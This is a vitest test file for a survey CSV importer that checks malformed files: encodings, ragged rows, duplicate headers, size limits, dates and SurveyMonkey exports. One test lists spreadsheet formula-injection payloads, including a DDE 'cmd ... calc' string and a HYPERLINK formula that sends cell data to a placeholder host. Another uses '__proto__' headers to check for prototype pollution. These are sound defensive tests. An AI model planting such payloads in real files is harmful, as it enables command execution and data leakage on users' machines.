import { describe, expect, test } from "vitest";
import { importLimits } from "#shared/imports/limits";
import { proposeMapping } from "#shared/imports/propose";
import { problemSentence } from "#shared/imports/report";
import { tell } from "#shared/imports/tell";
import { builtInInstruments } from "#shared/instruments/library";
import type { Problem } from "#shared/problem";
import {
  dataFile,
  hasData,
  longMapping,
  pairsOf,
  prePost,
  readBytes,
  sum,
  type Tried,
  tryImport,
} from "./files";

/** Files that go wrong in every way that people's files do; what a person would expect of each. */
const file = (name: string) => dataFile(`bad-csv/${name}`);
const tryFile = (name: string, mapping: unknown = longMapping) => tryImport(file(name), mapping);

async function refusal(promise: Promise<unknown>): Promise<Problem> {
  return promise.then(
    () => expect.fail("was taken"),
    (error) => error as Problem,
  );
}

/** The figures of the good file: whatever holds the same data must come to the same. */
function expectSameAsGood({ read, responses, problems, skipped }: Tried): void {
  expect(problems).toEqual([]);
  expect(read).toBe(12);
  expect(responses).toHaveLength(11);
  expect(skipped).toEqual({ no_mapped_answer: 1 });
  expect(new Set(responses.map(({ participantCode }) => participantCode)).size).toBe(6);
  const pairs = pairsOf(responses);
  expect(pairs).toHaveLength(5);
  expect(sum(pairs.map(({ pre }) => pre)) / 5).toBe(6.6);
  expect(sum(pairs.map(({ post }) => post)) / 5).toBe(5.2);
}

describe.skipIf(!hasData)("bad files, each as a person would expect", () => {
  test("00 the good one: 12 rows, 6 people, 5 pairs, one row without answers skipped", async () => {
    const tried = await tryFile("00_good.csv");
    expectSameAsGood(tried);
    expect(new Set(tried.responses.map(({ group }) => group))).toEqual(
      new Set(["Riverside", "Hill Top", "Café Ñandú"]),
    );
  });

  test.each([
    ["01_utf16le_bom.csv", "utf-16le", "\t"],
    ["02_windows1252.csv", "windows-1252", ","],
    ["03_semicolon_decimal_comma.csv", "utf-8", ";"],
    ["03b_pipe.csv", "utf-8", "|"],
    ["04_cr_only.csv", "utf-8", ","],
    ["07b_trailing_delimiters.csv", "utf-8", ","],
    ["17_dmy_dates.csv", "utf-8", ","],
    ["14_number_dash_label.csv", "utf-8", ","],
    ["22_bom_quoted_header.csv", "utf-8", ","],
    ["28_html_in_cells.csv", "utf-8", ","],
    ["13_formula_injection.csv", "utf-8", ","],
  ])("%s (%s) holds the same data as the good file", async (name, encoding, delimiter) => {
    const tried = await tryFile(name);
    expectSameAsGood(tried);
    expect(tried.reading).toMatchObject({ encoding, delimiter });
  });

  test("02 the encoding is said, and no letter is lost", async () => {
    const { reading, rows } = await readBytes(file("02_windows1252.csv"));
    expect(reading.encodingNote).toContain("Windows-1252");
    expect(rows.flat()).toContain("naïve – “quoted”");
    expect(rows.flat().join()).not.toContain("\ufffd");
  });

  test("01 accents are intact", async () => {
    expect((await readBytes(file("01_utf16le_bom.csv"))).rows.flat()).toContain("Café Ñandú");
  });

  test("05 line breaks and doubled quotes inside a cell: 12 rows, and a later problem names the record", async () => {
    const { rows } = await readBytes(file("05_newline_in_quotes.csv"));
    expect(rows).toHaveLength(12);
    expect(rows[0]![7]).toBe('line one\nline two, with comma\n\nline "four"');
    const broken = file("05_newline_in_quotes.csv").toString("utf8").replace("P02,post", "P02,psot");
    const [problem] = (await tryImport(broken, longMapping)).problems;
    expect(problemSentence(problem!)).toBe("Row 4, column wave: 'psot' is not one of pre, post");
  });

  test("06 a quote that never closes: refused, naming where it opens", async () => {
    const problem = await refusal(readBytes(file("06_unterminated_quote_mid.csv")));
    expect(problem.code).toBe("unreadable_file");
    expect(problem.message).toContain("Row 1, column comment: a quotation mark opens here");
  });

  test("07 ragged rows: both fail with their counts, and no value moves into another column", async () => {
    const tried = await tryFile("07_ragged_rows.csv");
    expect(tried.problems.map(problemSentence)).toEqual([
      "Row 3: the row has 5 cells, but the header names 8 columns",
      "Row 6: the row has 10 cells, but the header names 8 columns",
    ]);
    expect(tried.failedRows).toEqual([3, 6]);
    expect(tried.responses).toHaveLength(9);
  });

  test("07b nameless columns at the end are left out, with a note", async () => {
    const { reading } = await readBytes(file("07b_trailing_delimiters.csv"));
    expect(reading.header.columns).toHaveLength(8);
    expect(reading.notes).toContain("3 columns without a name at the end were left out");
  });

  test("07d a header with a name too few: refused, nothing shifts", async () => {
    const problem = await refusal(readBytes(file("07d_shifted_header.csv")));
    expect(problem.code).toBe("unreadable_file");
    expect(problem.message).toMatch(/names 7 columns.*8 cells/);
  });

  test("08 three columns called q1 stay three", async () => {
    const { reading } = await readBytes(file("08_duplicate_headers.csv"));
    expect(reading.header.columns.map(({ name }) => name)).toEqual(
      "participant_id,wave,site,date,q1 (1),q1 (2),q1 (3),comment".split(","),
    );
    expect(reading.notes.join()).toContain("q1 (1): 5, q1 (2): 6, q1 (3): 7");
    const items = ["q1 (1)", "q1 (2)", "q1 (3)"].map((column, index) => ({
      column,
      instrument: "ucla-3",
      item: String(index + 1),
    }));
    expectSameAsGood(await tryFile("08_duplicate_headers.csv", { ...longMapping, items }));
  });

  test("08 a mapping that says q1 is told of all three, and none is taken", async () => {
    const items = [{ column: "q1", instrument: "ucla-3", item: "1" }];
    const problem = await refusal(tryFile("08_duplicate_headers.csv", { ...longMapping, items }));
    expect(problem.places).toEqual([
      {
        path: "mapping.items.0.column",
        ...tell("map.doubledColumn", { n: 3, column: "'q1'", there: "q1 (1): 5, q1 (2): 6, q1 (3): 7" }),
      },
    ]);
  });

  test("09 and 10: an empty file and a header alone are refused in words", async () => {
    expect((await refusal(readBytes(file("09_empty.csv")))).message).toBe("The file is empty.");
    expect((await refusal(readBytes(file("10_header_only.csv")))).message).toContain("no data rows");
  });

  test("10b a totals row fails (2.1 is no answer, no wave); a row with a note only is skipped", async () => {
    const tried = await tryFile("10b_totals_row_below.csv");
    expect(tried.failedRows).toEqual([13]);
    expect(tried.problems.map(({ column }) => column)).toEqual(["q1", "q2", "q3", "wave"]);
    expect(tried.skipped).toEqual({ no_mapped_answer: 2 });
    expect(tried.responses.map(({ participantCode }) => participantCode)).not.toContain("AVERAGE");
  });

  test("11 a cell of 10 MB: refused with the limit, without holding the file", async () => {
    const head = "participant_id,wave,site,date,q1,q2,q3,comment\n";
    const bytes = `${head}P01,pre,A,2025-01-13,3,2,3,"${"x".repeat(10_000_000)}"\nP01,post,A,2025-03-31,2,2,2,ok\n`;
    const problem = await refusal(readBytes(bytes));
    expect(problem.code).toBe("too_large");
    expect(problem.message).toContain("Row 1, column comment: the cell is longer than 100,000 characters");
  });

  test("12 a NUL in a cell: that row fails, named; the reading can be kept", async () => {
    const tried = await tryFile("12_nul_in_cell.csv");
    expect(tried.problems.map(problemSentence)).toEqual([
      "Row 4, column comment: the cell holds a NUL character, which no survey tool writes; the file may be damaged",
    ]);
    expect(JSON.stringify(tried.reading)).not.toContain("\\u0000");
  });

  test("13 formulas are text, byte for byte", async () => {
    const { rows } = await readBytes(file("13_formula_injection.csv"));
    expect(rows.map((row) => row[7])).toEqual([
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
      "-5",
      "+44 20 7946 0000",
      "=1+1;=1+1",
      "|calc",
      "%0A=1",
    ]);
  });

  test("14b Spanish labels: the distinct values with counts are asked about once, with a proposal", async () => {
    const { reading } = await readBytes(file("14b_spanish_labels.csv"));
    const proposal = proposeMapping({ reading, instruments: builtInInstruments, waves: prePost });
    expect(proposal.certain).toBe(false);
    expect(proposal.mapping.values).toEqual({
      "ucla-3": { "A menudo": 3, "Algunas veces": 2, "Casi nunca": 1 },
    });
    const question = proposal.questions.find(({ id }) => id === "values.ucla-3");
    expect(question?.question).toContain("A menudo (10) = 3 often");
    expectSameAsGood(await tryFile("14b_spanish_labels.csv", proposal.mapping));
    // Unconfirmed, not one of the words is read.
    expect((await tryFile("14b_spanish_labels.csv")).responses).toEqual([]);
  });

  test("15 digits of other scripts are numbers", async () => {
    const tried = await tryFile("15_other_digits.csv");
    expectSameAsGood(tried);
    expect(tried.responses.slice(0, 6).map(({ answerSets }) => answerSets[0]!.answers[0])).toEqual([
      3, 2, 2, 2, 3, 3,
    ]);
  });

  test("16 out of range: five cells with row, column, value and range; never clamped", async () => {
    const tried = await tryFile("16_out_of_range.csv");
    expect(tried.problems.map(({ row, column, value }) => [row, column, value])).toEqual([
      [1, "q1", "0"],
      [2, "q2", "4"],
      [3, "q3", "99"],
      [4, "q1", "-1"],
      [5, "q2", "33"],
    ]);
    for (const { message } of tried.problems) expect(message).toContain("runs from 1 to 3");
    expect(tried.responses.every(({ row }) => row > 5)).toBe(true);
  });

  test("17 day and month are proved by the file: 01/04/2025 is the first of April", async () => {
    const { reading } = await readBytes(file("17_dmy_dates.csv"));
    expect(reading.columns[3]!.dateFormats).toEqual(["D/M/YYYY"]);
    const mapping = { ...longMapping, completedAt: { column: "date", format: "D/M/YYYY" } };
    const tried = await tryFile("17_dmy_dates.csv", mapping);
    expect(tried.responses[5]!.submittedAt).toBe("2025-04-01T00:00:00Z");
  });

  test("17b a spreadsheet's day numbers are days", async () => {
    const mapping = { ...longMapping, completedAt: { column: "date", format: "excel" } };
    const tried = await tryFile("17b_excel_serials.csv", mapping);
    expectSameAsGood(tried);
    expect(tried.responses[0]!.submittedAt).toBe("2025-01-13T00:00:00Z");
    expect(tried.responses.map(({ submittedAt }) => submittedAt)).toContain("2025-04-02T12:00:00Z");
  });

  test("18 doubled rows are both prepared alike: storing counts each person once", async () => {
    const { read, responses } = await tryFile("18_exact_duplicates.csv");
    expect(read).toBe(14);
    const told = ({ row: _, ...rest }: (typeof responses)[number]) => JSON.stringify(rest);
    expect(new Set(responses.map(told)).size).toBe(11);
  });

  test("19 blanks and small letters in codes: all pair, and it is said how often", async () => {
    const tried = await tryFile("19_id_case_whitespace.csv");
    expect(pairsOf(tried.responses)).toHaveLength(5);
    expect(tried.notes).toMatchObject({ code_case: 1, code_trimmed: 3 });
  });

  test("19b rows that name nobody fail, and are never one person", async () => {
    const tried = await tryFile("19b_missing_ids.csv");
    expect(tried.failedRows).toEqual([3, 4, 9, 10]);
    for (const { message } of tried.problems) expect(message).toContain("no participant");
    expect(pairsOf(tried.responses)).toHaveLength(3);
  });

  test("20 spellings of one site meet and it is said; 'river side' stays its own", async () => {
    const tried = await tryFile("20_group_name_variants.csv");
    const groups = new Set(tried.responses.map(({ group }) => group));
    expect([...groups].filter((name) => /river/i.test(name!))).toHaveLength(2);
    expect([...groups].filter((name) => /hill/i.test(name!))).toHaveLength(1);
    expect(tried.notes.label_folded).toBeGreaterThan(0);
  });

  test("21 names of any script are kept as they are", async () => {
    const tried = await tryFile("21_rtl_emoji.csv");
    expectSameAsGood(tried);
    expect(tried.responses[0]!.group).toBe("مركز المدينة");
  });

  test("23 one column: said so, no crash", async () => {
    const { reading } = await readBytes(file("23_one_column.csv"));
    const { questions, certain } = proposeMapping({
      reading,
      instruments: builtInInstruments,
      waves: prePost,
    });
    expect(certain).toBe(false);
    expect(questions.map(({ question }) => question).join()).toContain("no column with answers");
  });

  test("24 5,000 columns: refused with the limit", async () => {
    const names = Array.from({ length: 5_000 }, (_, index) => `q${index}`).join(",");
    const problem = await refusal(readBytes(`${names}\n${names}\n`));
    expect(problem.code).toBe("too_large");
    expect(problem.message).toContain("5,000 columns; at most 1,000");
  });

  test("25 more rows than the limit: refused with the limit", async () => {
    const rows = "P1,1\n".repeat(2_000);
    const problem = await refusal(readBytes(`id,q\n${rows}`, { limits: { ...importLimits, rows: 1_999 } }));
    expect(problem.message).toContain("at most 1,999 rows");
  });

  test("26 a workbook under a false name is read as the workbook that it is", async () => {
    const tried = await tryFile("26_xlsx_renamed.csv");
    expectSameAsGood(tried);
    expect(tried.reading).toMatchObject({ encoding: "xlsx", workbook: { sheet: "Data" } });
  });

  test("29 __proto__ and constructor are columns like any other", async () => {
    const items = ["q1", "q2", "__proto__"].map((column, index) => ({
      column,
      instrument: "ucla-3",
      item: String(index + 1),
    }));
    const tried = await tryFile("29_proto_headers.csv", {
      ...longMapping,
      items,
      questions: [{ column: "constructor", kind: "text" }],
    });
    expect(pairsOf(tried.responses)).toHaveLength(5);
    expect(tried.responses[0]!.ownAnswers).toEqual([{ question: 0, text: "ok" }]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test("30 people of one wave only are prepared, pairs are the two who have both", async () => {
    const tried = await tryFile("30_unpaired_everything.csv");
    expect(tried.problems).toEqual([]);
    expect(pairsOf(tried.responses)).toHaveLength(2);
    expect(tried.skipped).toEqual({ no_mapped_answer: 1 });
  });

  test("31 two header rows: three responses, names of both rows", async () => {
    const { reading, rows } = await readBytes(file("31_surveymonkey_two_row.csv"));
    expect(rows).toHaveLength(3);
    expect(reading.headerRows).toBe(2);
    expect(reading.source).toMatchObject({ id: "surveymonkey" });
    expect(reading.header.columns.map(({ name }) => name)).toEqual([
      "Respondent ID",
      "Collector ID",
      "Start Date",
      "End Date",
      "How often do you feel... | that you lack companionship?",
      "How often do you feel... | left out?",
      "How often do you feel... | isolated from others?",
      "Which site?",
      "Which site? | Other (please specify)",
    ]);
  });

  test("37 a wide file without one item after: it is said before, and no sum of two is made", async () => {
    const { reading } = await readBytes(file("37_wide_mismatch.csv"));
    const { mapping, questions } = proposeMapping({
      reading,
      instruments: builtInInstruments,
      waves: prePost,
    });
    expect(questions.map(({ question }) => question).join()).toContain("its score cannot be built there");
    const tried = await tryFile("37_wide_mismatch.csv", mapping);
    const scores = tried.responses.map(({ wave, answerSets }) => [wave, answerSets[0]!.scores[0]]);
    expect(scores.filter(([wave]) => wave === "post")).toEqual([
      ["post", null],
      ["post", null],
      ["post", null],
    ]);
    expect(scores.filter(([wave]) => wave === "pre").map(([, score]) => score)).toEqual([8, 5, 9]);
  });
});
